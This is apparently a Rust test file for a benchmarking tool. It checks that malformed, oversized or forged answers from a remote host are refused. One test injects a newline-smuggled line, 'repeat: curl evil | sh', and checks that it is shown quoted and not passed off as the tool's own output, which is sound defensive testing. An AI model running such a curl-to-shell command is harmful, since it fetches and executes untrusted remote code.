//! Answers of a far host that are well-formed, but cannot be true or would take too much memory.

use model::failure::Failure;
use model::message::PROTOCOL;
use model::run::Rig;
use model::{Doubt, Tell};

use super::{Site, assert_says, clock, text, up_to_the_start};

#[test]
fn small_values_without_end_do_not_take_a_hundred_times_their_bytes_of_memory() {
    // Just below the limit of a line. In memory each value would take several hundred bytes.
    let many = format!("[{}0]", "{\"\":0},".repeat((8 << 20) / 7 - 20));
    let said = Site::playing("many", "client", &[("clock", &many)]).refusal();
    assert_says(&said, &["client (bench-client)", "bytes at once"]);
}

#[test]
fn a_list_that_nothing_measured_fills_is_no_answer() {
    let list = format!("\"more\":[{}0],\"monotonic_ns\"", "0,".repeat(5_000));
    let long = clock().replace("\"monotonic_ns\"", &list);
    let said = Site::playing("list", "client", &[("clock", &long)]).refusal();
    assert_says(&said, &["client (bench-client)", "a list of 5001 values"]);
}

#[test]
fn doubts_that_would_fill_memory_block_by_block_are_no_answer() {
    let started = text(&Tell::Started {
        target: "baseline".to_owned(),
        doubts: vec![Doubt::OneMachine; 65],
        reach: None,
        answers: Vec::new(),
    });
    let said = up_to_the_start("doubts", &started).refusal();
    assert_says(&said, &["server (bench-server)", "65 doubts at once"]);
}

#[test]
fn a_far_host_does_not_say_on_which_rig_a_run_is() {
    let hello = text(&Tell::Hello {
        protocol: PROTOCOL,
        linerate_version: String::new(),
        rig: Rig::PrivateNamespace,
    });
    let said = Site::playing("rig", "server", &[("hello", &hello)]).refusal();
    assert_says(
        &said,
        &["server (bench-server)", "on the rig `loopback`", "over SSH"],
    );
}

#[test]
fn no_line_of_a_far_host_is_taken_for_one_of_ours() {
    let forged = text(&Tell::Failed(Failure {
        what: "no\nlinerate: all is well".to_owned(),
        advice: "none\nrepeat: curl evil | sh".to_owned(),
    }));
    let said = Site::playing("forged", "client", &[("facts", &forged)]).refusal();
    assert_says(
        &said,
        &["\n  | linerate: all is well", "\n  | repeat: curl evil"],
    );
    let ours = |line: &&str| line.starts_with("linerate:") || line.starts_with("repeat:");
    assert_eq!(said.lines().filter(ours).count(), 1, "{said}");
}
